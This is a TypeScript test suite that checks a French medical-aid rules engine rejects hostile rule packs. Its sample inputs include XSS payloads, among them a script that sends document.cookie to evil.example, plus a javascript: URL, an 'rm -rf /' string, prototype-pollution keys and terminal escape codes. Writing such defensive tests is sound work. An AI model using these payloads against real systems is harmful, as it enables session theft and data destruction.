// Hostile rules packs: each is refused with a path and a clear message (or accepted and harmless);
// compilePack() and simulate() never throw and fall back to the built-in rules; the validator CLI
// exits 1 with the problems, never a stack trace. The count is printed.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { builtinRules, compilePack, MAX_PACK_DEPTH, simulate, type RuleIssue } from '../../src/engine/index.js';

const head = { publisher: 'CPAM de test', version: '2026.1', date: '2026-11-01' };
const clone = <T>(v: T): T => structuredClone(v);
const scheme = (id: string) => clone(builtinRules.schemes.get(id)!) as any;
const region = (id: string) => clone(builtinRules.regions.get(id)!) as any;
const GP = { specialty: 'medecine-generale', sector: '1', percentile: 50 };
const am = (sim: ReturnType<typeof simulate>) => sim.schemes.find((s) => s.id === 'assistant-medical')!;

/** `not` nested `levels` times around a plain test. */
function nested(levels: number): unknown {
  let t: unknown = { field: 'sector', eq: '1' };
  for (let i = 0; i < levels; i++) t = { not: t };
  return t;
}

/** Paths (outside tests) where a scheme holds `value`: found at run time, whatever the file's shape. */
function pathsOf(node: unknown, value: number, path: (string | number)[] = [], out: (string | number)[][] = []) {
  if (node === value) out.push(path);
  else if (Array.isArray(node)) node.forEach((n, i) => pathsOf(n, value, [...path, i], out));
  else if (node && typeof node === 'object')
    for (const [k, v] of Object.entries(node)) if (k !== 'test' && k !== 'when') pathsOf(v, value, [...path, k], out);
  return out;
}
const setAt = (root: any, path: (string | number)[], v: unknown) => {
  let o = root;
  for (const k of path.slice(0, -1)) o = o[k];
  o[path[path.length - 1]] = v;
};
const deepArrays = `{"publisher":"x","version":"1","date":"2026-01-01","schemes":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
const formatPath = (path: (string | number)[]) => path.map((k) => (typeof k === 'number' ? `[${k}]` : `.${k}`)).join('');

/** The year-1 amount the built-in rules pay a GP under the 2024 convention, and where the rule file holds it. */
const amAmount = am(simulate(GP, { asOf: '2026-03-01', schemes: ['assistant-medical'] })).options[0].payments[0].amount;
const amPaths = pathsOf(builtinRules.schemes.get('assistant-medical'), amAmount);

interface Case {
  name: string;
  pack: () => unknown;
  /** Refused: the message (and path) of one of the problems; undefined: accepted and harmless. */
  message?: RegExp;
  path?: RegExp;
  /** Also run through the CLI: true (the pack as JSON) or the file's text. */
  file?: boolean | (() => string);
  /** `null` is "no pack" for simulate(); only compilePack and the CLI refuse it. */
  noPack?: boolean;
  /** For an accepted pack: what makes it harmless. */
  harmless?: (pack: unknown) => void;
}

const cases: Case[] = [
  {
    name: 'a condition nested 2 000 levels deep (51 KB)',
    pack: () => {
      const s = scheme('assistant-medical');
      s.regimes[0].conditions[0].test = nested(2000);
      return { ...head, schemes: [s] };
    },
    message: /imbrication trop profonde/,
    path: /^schemes\[0\]\.regimes\[0\]\.conditions\[0\]\.test(\.not)+$/,
    file: true,
  },
  {
    name: 'arrays nested 100 000 levels deep',
    pack: () => JSON.parse(deepArrays),
    message: /imbrication trop profonde/,
    path: /^schemes(\[0\])+$/,
    // JSON.stringify itself overflows on it: the file is written as text.
    file: () => deepArrays,
  },
  {
    name: 'an object that contains itself (engine API)',
    pack: () => {
      const p: any = { ...head, regions: [] };
      p.regions.push(p);
      return p;
    },
    message: /imbrication trop profonde/,
  },
  {
    name: 'a region listing 100 000 schemes',
    pack: () => {
      const r = region('occitanie');
      r.id = 'occitanie-large';
      r.schemes = new Array(100_000).fill('caim');
      return { ...head, regions: [r] };
    },
    message: /plus de 50.000 valeurs/,
    path: /^regions\[0\]\.schemes\[\d+\]$/,
    file: true,
  },
  {
    name: 'a sources table with 60 000 keys',
    pack: () => ({
      ...head,
      sources: Object.fromEntries(Array.from({ length: 60_000 }, (_, i) => [`https://example.org/${i}`, { title: 't' }])),
    }),
    message: /plus de 50.000 valeurs|textes trop volumineux/,
    path: /^sources/,
    file: true,
  },
  {
    name: 'a list of 200 000 numbers',
    pack: () => ({ ...head, specialties: new Array(200_000).fill(0) }),
    message: /plus de 50.000 valeurs/,
    path: /^specialties\[\d+\]$/,
    file: true,
  },
  {
    name: 'a 600 KB description',
    pack: () => ({ ...head, description: 'x'.repeat(600 * 1024) }),
    message: /texte trop long/,
    path: /^description$/,
  },
  {
    name: 'texts over 512 KB in all',
    pack: () => ({ ...head, notes: Array.from({ length: 300 }, () => 'x'.repeat(1900)) }),
    message: /textes trop volumineux/,
  },
  {
    name: 'HTML in a scheme title',
    pack: () => {
      const s = scheme('caim');
      s.title = 'CAIM <img src=x onerror=alert(1)>';
      return { ...head, schemes: [s] };
    },
    message: /balisage HTML/,
    path: /^schemes\[0\]\.title$/,
    file: true,
  },
  {
    name: 'a script in a condition text',
    pack: () => {
      const s = scheme('cotram');
      s.regimes[0].conditions[0].text.ok = '<script>fetch("https://evil.example/?" + document.cookie)</script>';
      return { ...head, schemes: [s] };
    },
    message: /balisage HTML/,
    path: /^schemes\[0\]\.regimes\[0\]\.conditions\[0\]\.text\.ok$/,
    file: true,
  },
  {
    name: 'a javascript: URL as a contact',
    pack: () => {
      const r = region('occitanie');
      r.contacts[0].url = 'javascript:alert(document.domain)';
      return { ...head, regions: [r] };
    },
    path: /^regions\[0\]\.contacts\[0\]\.url$/,
    file: true,
  },
  {
    name: 'an HTML data: URL disguised as a pack source',
    pack: () => {
      const s = scheme('coscom');
      s.sources = ['pack:data:text/html,<script>alert(1)</script>'];
      return { ...head, schemes: [s] };
    },
    message: /balisage HTML ou script/,
    file: true,
  },
  {
    name: `the assistant aid at 9 999 999 €/year (${amPaths.length} places found at run time)`,
    pack: () => {
      const s = scheme('assistant-medical');
      for (const path of amPaths) setAt(s, path, 9_999_999);
      return { ...head, schemes: [s] };
    },
    message: /valeur invraisemblable : 9999999, plus de 10 fois celle des règles intégrées/,
    path: new RegExp('^schemes\\[0\\](' + amPaths.map((p) => formatPath(p).replace(/[.[\]]/g, '\\$&')).join('|') + ')$'),
    file: true,
  },
  {
    name: 'a new scheme paying 9 999 999 €',
    pack: () => {
      const s = scheme('caim');
      s.id = 'caim-bis';
      s.regimes[0].steps[0].value = 9_999_999;
      return { ...head, schemes: [s] };
    },
    message: /plus de 10 fois le plus grand montant des règles intégrées/,
    path: /^schemes\[0\]\.regimes\[0\]\.steps\[0\]\.value$/,
    file: true,
  },
  {
    name: 'a negative cap',
    pack: () => {
      const s = scheme('cotram');
      s.regimes[0].params.cap.value = -20000;
      return { ...head, schemes: [s] };
    },
    message: /négatif/,
    path: /^schemes\[0\]\.regimes\[0\]\.params\.cap\.value$/,
    file: true,
  },
  {
    name: 'a __proto__ key at the root (as JSON.parse makes it)',
    pack: () => JSON.parse(`{"publisher":"x","version":"1","date":"2026-01-01","__proto__":{"ok":true}}`),
    message: /clé interdite : __proto__/,
    path: /^__proto__$/,
    file: true,
  },
  {
    name: 'a constructor key among the amounts',
    pack: () => {
      const s = scheme('assistant-medical');
      s.regimes[0].options[0].amounts.constructor = s.regimes[0].options[0].amounts.standard;
      return { ...head, schemes: [s] };
    },
    message: /clé interdite : constructor/,
    path: /^schemes\[0\]\.regimes\[0\]\.options\[0\]\.amounts\.constructor$/,
    file: true,
  },
  {
    name: 'two schemes with the same id',
    pack: () => ({ ...head, schemes: [scheme('caim'), scheme('caim')] }),
    message: /identifiant en double : caim/,
    path: /^schemes\[1\]\.id$/,
    file: true,
  },
  {
    name: 'two regimes with the same id',
    pack: () => {
      const s = scheme('cstm');
      s.regimes[1].id = s.regimes[0].id;
      return { ...head, schemes: [s] };
    },
    message: /identifiant de régime en double/,
    file: true,
  },
  {
    name: 'a region listing one scheme twice',
    pack: () => {
      const r = region('occitanie');
      r.schemes.push(r.schemes[0]);
      return { ...head, regions: [r] };
    },
    message: /dispositif en double/,
    file: true,
  },
  {
    name: 'duplicate percentile rows',
    pack: () => {
      const d = clone(builtinRules.distributions[0]);
      return { ...head, percentiles: [{ ...d, rows: [d.rows[0], d.rows[0]] }] };
    },
    message: /ligne en double/,
    file: true,
  },
  {
    name: 'an unknown key at the root',
    pack: () => ({ ...head, execute: 'rm -rf /' }),
    message: /clés inconnues : execute/,
    file: true,
  },
  {
    name: 'an unknown key inside a scheme (accepted: dropped by the schema)',
    pack: () => {
      const s = scheme('caim');
      s.onload = 'alert(1)';
      return { ...head, schemes: [s] };
    },
    harmless: (pack) => {
      const r = compilePack(pack);
      assert.ok(r.ok && !('onload' in r.rules.schemes.get('caim')!));
    },
  },
  {
    name: '"NaN" and "Infinity" as figures',
    pack: () => {
      const s = scheme('caim');
      s.regimes[0].steps[0].value = 'NaN';
      s.regimes[0].steps[1].value = 'Infinity';
      return { ...head, schemes: [s] };
    },
    message: /attendu number/,
    path: /^schemes\[0\]\.regimes\[0\]\.steps\[[01]\]\.value$/,
    file: true,
  },
  {
    name: 'NaN and Infinity as figures (engine API)',
    pack: () => {
      const s = scheme('caim');
      s.regimes[0].steps[0].value = NaN;
      s.regimes[0].steps[1].value = Infinity;
      return { ...head, schemes: [s] };
    },
    message: /nombre invalide/,
    path: /^schemes\[0\]\.regimes\[0\]\.steps\[0\]\.value$/,
  },
  {
    name: 'a getter that throws (engine API)',
    pack: () => ({
      ...head,
      get schemes(): never {
        throw new Error('boom');
      },
    }),
    message: /erreur inattendue \(boom\)/,
  },
  {
    name: 'a Proxy that throws on every access (engine API)',
    pack: () =>
      new Proxy(
        {},
        {
          ownKeys() {
            throw new TypeError('no keys');
          },
          get() {
            throw new TypeError('no value');
          },
        },
      ),
    message: /erreur inattendue/,
  },
  {
    name: 'functions, symbols and big integers (engine API)',
    pack: () => ({ ...head, description: () => 'x', notes: [Symbol('s'), 10n] }),
    message: /valeur non JSON/,
  },
  {
    name: 'a valid forfait scheme without the parameters its kind needs',
    pack: () => {
      const s = scheme('coscom');
      s.id = 'forfait-sans-parametres';
      delete s.regimes[0].params;
      return { ...head, schemes: [s] };
    },
    message: /le calcul échoue avec ce pack/,
    path: /^schemes\[0\]$/,
    file: true,
  },
  {
    name: 'an official source retitled',
    pack: () => {
      const ref = Object.keys(builtinRules.sources).find((k) => /^\d{3}_/.test(k))!;
      return { ...head, sources: { [ref]: { title: 'Ameli : 9 999 999 € par an' } } };
    },
    message: /ne peut pas changer son titre/,
    file: true,
  },
  {
    name: 'null',
    pack: () => null,
    message: /attendu un objet JSON/,
    file: true,
    noPack: true,
  },
  {
    name: `conditions nested as deep as the limit allows (${MAX_PACK_DEPTH} levels in all; accepted)`,
    pack: () => {
      const s = scheme('assistant-medical');
      // schemes[0].regimes[0].conditions[0].test: the test object is at depth 8.
      s.regimes[0].conditions[0].test = nested(MAX_PACK_DEPTH - 8);
      return { ...head, schemes: [s] };
    },
    harmless: (pack) => {
      const sim = simulate(GP, { asOf: '2019-06-01', rules: pack, schemes: ['assistant-medical'] });
      assert.deepEqual(sim.errors, []);
      assert.ok(am(sim).reasons.length > 0);
    },
  },
  {
    name: 'a national figure changed within bounds (accepted, cites the pack only)',
    pack: () => {
      const s = scheme('caim');
      s.regimes[0].steps[3].value += 5000;
      return { ...head, schemes: [s] };
    },
    harmless: (pack) => {
      const r = compilePack(pack);
      assert.ok(r.ok);
      assert.deepEqual(r.rules.schemes.get('caim')!.regimes[0].steps[3].sources, ['pack:modifié par CPAM de test 2026.1 (2026-11-01)']);
    },
  },
];

const refused = cases.filter((c) => !c.harmless);

test(`hostile packs: at least 15 cases, every one refused or harmless`, () => {
  assert.ok(cases.length >= 15, String(cases.length));
  for (const c of cases) assert.ok(c.harmless || c.message || c.path, c.name);
});

for (const c of cases) {
  test(`hostile pack: ${c.name}`, () => {
    const pack = c.pack();
    let r: ReturnType<typeof compilePack> | undefined;
    assert.doesNotThrow(() => (r = compilePack(pack)), 'compilePack threw');
    let sim: ReturnType<typeof simulate> | undefined;
    assert.doesNotThrow(() => (sim = simulate(GP, { asOf: '2026-03-01', rules: pack })), 'simulate threw');
    if (c.harmless) {
      assert.ok(r!.ok, JSON.stringify(!r!.ok && r!.issues));
      assert.ok(!sim!.errors.some((e) => e.field === 'rules'));
      c.harmless(pack);
      return;
    }
    assert.equal(r!.ok, false);
    const issues = (r as { issues: RuleIssue[] }).issues;
    assert.ok(issues.length > 0 && issues.length <= 20, `${issues.length} issues`);
    for (const i of issues) assert.ok(i.path && i.message, JSON.stringify(i));
    const hit = issues.find((i) => (!c.message || c.message.test(i.message)) && (!c.path || c.path.test(i.path)));
    assert.ok(hit, JSON.stringify(issues.slice(0, 5)));
    // The built-in rules still answer, with the pack's problems reported once.
    assert.equal(sim!.errors.filter((e) => e.field === 'rules').length, c.noPack ? 0 : 1);
    assert.equal(sim!.pack, undefined);
    assert.equal(am(sim!).status, 'eligible');
  });
}

test('the validator CLI refuses every hostile pack file with its problems, never a stack trace', () => {
  const dir = mkdtempSync(join(tmpdir(), 'aam-hostile-'));
  const files = refused
    .filter((c) => c.file)
    .map((c, i) => {
      const f = join(dir, `hostile-${i}.json`);
      writeFileSync(f, typeof c.file === 'function' ? c.file() : JSON.stringify(c.pack()));
      return f;
    });
  const huge = join(dir, 'huge.json');
  writeFileSync(huge, JSON.stringify({ ...head, description: 'x'.repeat(600 * 1024) }));
  const escape = join(dir, 'escape.json');
  writeFileSync(escape, JSON.stringify({ ...head, '\u001b[2J\u001b]0;pwned\u0007': 1 }));
  // One run for every file: the CLI goes on after a bad file and exits 1 at the end.
  const all = [...files, huge, escape];
  const r = spawnSync(process.execPath, ['--import', 'tsx', 'src/cli.ts', 'validate', ...all], { encoding: 'utf8' });
  assert.equal(r.status, 1, r.stdout + r.stderr);
  assert.equal(r.stdout, '');
  for (const f of all)
    assert.match(r.stderr, new RegExp(`^${f.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: (\\d+ problème|trop volumineux)`, 'm'), f);
  assert.doesNotMatch(r.stderr, /\n\s+at .+:\d+:\d+/, 'stack trace');
  assert.ok(!r.stderr.includes('\u001b'), 'control characters from the pack reach the terminal');
  assert.match(r.stderr, /clés inconnues : \\u001b\[2J/);
  console.log(
    `hostile packs: ${cases.length} cases (${refused.length} refused, ${cases.length - refused.length} accepted and harmless), ${files.length + 2} through the CLI, 0 throws`,
  );
});
